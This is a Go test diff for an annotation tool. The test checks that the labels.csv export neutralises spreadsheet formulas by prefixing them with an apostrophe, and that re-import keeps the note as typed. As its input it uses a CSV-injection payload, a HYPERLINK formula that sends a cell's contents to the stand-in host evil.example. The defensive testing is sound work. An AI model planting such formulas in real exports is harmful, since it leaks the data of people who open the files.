@@ -2,6 +2,7 @@ package web
 
 import (
 	"context"
+	"encoding/csv"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -373,5 +374,59 @@ func TestSamplingCachesSignatures(t *testing.T) {
 	}
 	if rec := f.do("POST", "/campaigns/1/sample", rev, url.Values{"per_bin": {"1"}, "bin": {"-1"}, "boundary": {"0"}, "random": {"1"}}); rec.Code != http.StatusSeeOther {
 		t.Errorf("second draw from the cache: %d", rec.Code)
+	}
+}
+
+// A label's note is the annotator's own text: in labels.csv a note (or an id, or a name)
+// that a spreadsheet would run as a formula is written as text (a leading apostrophe, as
+// removals.csv does), and import-labels reads the export back as it was written.
+func TestLabelsCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, 1<<20)
+	f.withCampaign()
+	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
+	const note = `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	_, body := get(t, f.h, "/campaigns/1/pairs/1", ann)
+	if rec := f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"different"}, "note": {note}, "previous": {previousOf(body)}}); rec.Code != http.StatusSeeOther {
+		t.Fatalf("label: %d", rec.Code)
+	}
+	_, out := get(t, f.h, "/campaigns/1/labels.csv", rev)
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var noted bool
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("labels.csv cell %q would run as a formula", cell)
+			}
+			noted = noted || cell == "'"+note
+		}
+	}
+	if !noted {
+		t.Errorf("labels.csv lacks the note written as text\n%s", out)
+	}
+	// Read back: the annotator's label comes in as an import source with the note as typed.
+	ds, _ := f.store.Datasets(context.Background())
+	rep, err := ingest.Labels(context.Background(), f.store, strings.NewReader(out), "labels.csv", ingest.LabelOptions{DatasetID: ds[0].ID, Campaign: "default"})
+	if err != nil || rep.Rejected != 0 {
+		t.Fatalf("import of the export: %+v, %v", rep, err)
+	}
+	cur, err := f.store.CurrentLabels(context.Background(), 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var back bool
+	for _, l := range cur {
+		if l.Annotator == "import:annotator" {
+			back = true
+			if l.Note != note {
+				t.Errorf("note read back as %q; want %q", l.Note, note)
+			}
+		}
+	}
+	if !back {
+		t.Error("the annotator's label did not come back as import:annotator")
 	}
 }
